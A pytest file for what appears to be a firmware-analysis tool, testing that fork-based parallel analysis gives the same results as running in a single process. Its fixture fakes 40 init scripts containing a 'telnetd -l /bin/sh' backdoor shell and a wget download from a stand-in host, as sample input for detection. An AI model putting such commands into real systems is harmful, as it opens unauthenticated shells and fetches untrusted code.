"""Work shared by this process and a forked child: the same answers as alone, whatever the child does."""

from __future__ import annotations

import os
import time
from dataclasses import replace

import pytest

from veracity import inventory, parallel
from veracity.checks import registry
from veracity.testing.memfs import inventory_from

PARENT = os.getpid()


def _slow_square(n):
    time.sleep(0.01)  # long enough for the child to start taking
    return n * n, os.getpid() == PARENT


def test_every_task_is_done_once_and_answered_in_order():
    out = parallel.shared(20, _slow_square)
    assert [v for v, _ in out] == [n * n for n in range(20)]
    assert {here for _, here in out} == {True, False}  # both processes took tasks


def test_a_child_that_dies_costs_time_not_answers():
    def task(n):
        if os.getpid() != PARENT:
            os._exit(9)
        return n + 1

    assert parallel.shared(8, task) == list(range(1, 9))


def test_a_child_whose_task_raises_leaves_it_to_the_parent():
    def task(n):
        if os.getpid() != PARENT and n % 2:
            raise RuntimeError("boom")
        return -n

    assert parallel.shared(10, task) == [-n for n in range(10)]


def test_no_fork_does_everything_here(monkeypatch):
    monkeypatch.setenv("VERACITY_NO_FORK", "1")
    assert {here for here in parallel.shared(6, lambda n: os.getpid() == PARENT)} == {True}


def test_task_count_is_bounded():
    with pytest.raises(ValueError):
        parallel.shared(0, lambda n: n)
    with pytest.raises(ValueError):
        parallel.shared(parallel.MAX_TASKS + 1, lambda n: n)


def test_shares_cover_the_work_once_with_about_equal_weight():
    work = list(range(100))
    weights = [float(1 + (i * 37) % 11) for i in work]
    shares = parallel.shares(work, weights, 8)
    assert sorted(i for s in shares for i in s) == work and all(s == sorted(s) for s in shares)
    loads = [sum(weights[i] for i in s) for s in shares]
    assert max(loads) - min(loads) <= max(weights)
    assert [parallel.share(work, weights, p, 8) for p in range(8)] == shares  # the same in every process


def _files() -> dict[str, bytes | str]:
    files: dict[str, bytes | str] = {
        f"/etc/init.d/S{n:02d}svc": f"#!/bin/sh\ntelnetd -l /bin/sh -p {2300 + n}\nwget http://cdn{n}.example-fw.cn/u\n"
        for n in range(40)
    }
    files["/bin/busybox"] = (b"\x7fELF" + bytes(60)) * 50 + b"BusyBox v1.36.1 http://busybox.net\x00"
    files["/www/app.js"] = "fetch('https://api.vendor-cloud.com/v1/report');\n" * 200
    files["/etc/copy-of-S00"] = files["/etc/init.d/S00svc"]  # the same content twice
    files["/empty"] = b""
    return files


def _facts(inv):
    return {(i.node.path): replace(i.facts) for i in inv.items}


def test_inventory_analysed_in_two_processes_is_the_inventory_analysed_in_one(tmp_path, monkeypatch):
    patterns = registry.patterns()
    monkeypatch.setenv("VERACITY_NO_FORK", "1")
    alone = inventory_from(_files(), tmp_path / "a", patterns=patterns)
    monkeypatch.setenv("VERACITY_NO_FORK", "0")
    monkeypatch.setattr(inventory, "PARALLEL_BYTES", 0)
    calls = []
    real = parallel.shared
    monkeypatch.setattr(parallel, "shared", lambda count, task: calls.append(count) or real(count, task))
    shared = inventory_from(_files(), tmp_path / "b", patterns=patterns)
    assert calls == [inventory.SHARES]  # the two-process path ran
    assert _facts(shared) == _facts(alone)
    texts = {i.node.path: i.facts.text for i in shared.items}
    assert texts["/etc/init.d/S03svc"].startswith("#!/bin/sh") and texts["/empty"] is None
    assert shared.analysed == alone.analysed and shared.cache_hits == alone.cache_hits


# -- a child fed batches while this process goes on (parallel.Stream) ---------------------------------------


def _answers_until(stream: parallel.Stream, count: int, timeout: float = 10.0) -> list:
    got: list = []
    end = time.monotonic() + timeout
    while len(got) < count and time.monotonic() < end:
        got += stream.answers()
        time.sleep(0.005)
    return got


def test_a_stream_answers_each_batch_in_order_in_its_child():
    stream = parallel.Stream(lambda batch: (sum(batch), os.getpid() != PARENT), nice=5)
    assert stream.alive and stream.idle
    assert stream.send([1, 2, 3]) and not stream.idle
    assert _answers_until(stream, 1) == [(6, True)] and stream.idle
    big = list(range(200_000))  # a batch, and an answer, larger than a pipe holds
    stream.send(big)
    stream.send([5])
    assert stream.close(time.monotonic() + 10) == [(sum(big), True), (5, True)]
    assert not stream.alive and not stream.send([1])


def test_a_batch_that_raises_is_answered_none_and_the_child_goes_on():
    stream = parallel.Stream(lambda batch: 10 // batch)
    for batch in (2, 0, 5):
        stream.send(batch)
    assert stream.close(time.monotonic() + 10) == [5, None, 2]


def test_a_stream_whose_child_dies_stops_answering():
    def work(batch):
        if batch == "die":
            os._exit(9)
        return batch

    stream = parallel.Stream(work)
    stream.send("a")
    stream.send("die")
    t0 = time.monotonic()
    assert stream.close(time.monotonic() + 30) == ["a"] and time.monotonic() - t0 < 5  # the end, not the deadline
    assert not stream.idle  # the second batch was never answered: its work is the caller's


def test_a_stream_child_never_waits_for_this_process_to_read(tmp_path):
    """Its answers are read as they come, even while this process does something else: a child whose answer is
    larger than a pipe holds goes on with the next batch."""
    done = tmp_path / "done"

    def work(batch):
        with done.open("a") as fh:
            fh.write(f"{batch}\n")
        return bytes(4 * 2**20)  # four times what the pipe holds

    stream = parallel.Stream(work)
    for batch in range(3):
        assert stream.send(batch)
    end = time.monotonic() + 10
    while time.monotonic() < end and len(done.read_text().split() if done.exists() else []) < 3:
        time.sleep(0.05)  # busy with something else: answers() is not called
    assert done.read_text().split() == ["0", "1", "2"]
    assert [len(a) for a in stream.close(time.monotonic() + 10)] == [4 * 2**20] * 3


def test_a_stream_whose_child_ended_is_not_alive():
    stream = parallel.Stream(lambda batch: os._exit(9))
    assert stream.alive
    stream.send(1)
    end = time.monotonic() + 10
    while stream.alive and time.monotonic() < end:
        time.sleep(0.01)
    assert not stream.alive and stream.answers() == [] and not stream.idle
    stream.kill()


def test_a_stream_past_its_deadline_is_killed():
    stream = parallel.Stream(lambda batch: time.sleep(batch) or batch)
    stream.send(30)
    t0 = time.monotonic()
    assert stream.close(time.monotonic() + 0.3) == [] and time.monotonic() - t0 < 5 and not stream.alive


def test_a_stream_without_fork_has_no_child(monkeypatch):
    def no_fork():
        raise OSError("no fork here")

    monkeypatch.setattr(os, "fork", no_fork)
    stream = parallel.Stream(lambda batch: batch)
    assert not stream.alive and not stream.send([1]) and stream.close() == []


def test_nodes_and_facts_travel_between_processes_whole():
    """Nodes and facts are pickled as their class called with their fields (faster than pickle's own way for frozen
    slotted dataclasses): every field comes back, the hidden ones (place on disk) included."""
    import dataclasses
    import pickle

    from veracity.inventory import ElfFacts, FileFacts
    from veracity.tree import Node

    node = Node("/bin/x", "file", 0o755, 1, 2, 3, "/bin/y", (1, 2), "ab" * 32, "/work/x")
    elf = ElfFacts("x86-64", 64, "little", "dyn", "/lib/ld.so", ("libc.so.6",), "libx.so", True, True, True,
                   "full", True, False, ("socket", "dup2"))
    facts = FileFacts("ab" * 32, 3, "elf", "ELF", None, elf, None, ((0, 3),), False, "oops", (("P/1", 0, 2),), ("P/2",))
    for value in (node, elf, facts):
        back = pickle.loads(pickle.dumps(value, protocol=pickle.HIGHEST_PROTOCOL))
        assert type(back) is type(value)
        assert [getattr(back, f.name) for f in dataclasses.fields(value)] == \
            [getattr(value, f.name) for f in dataclasses.fields(value)]
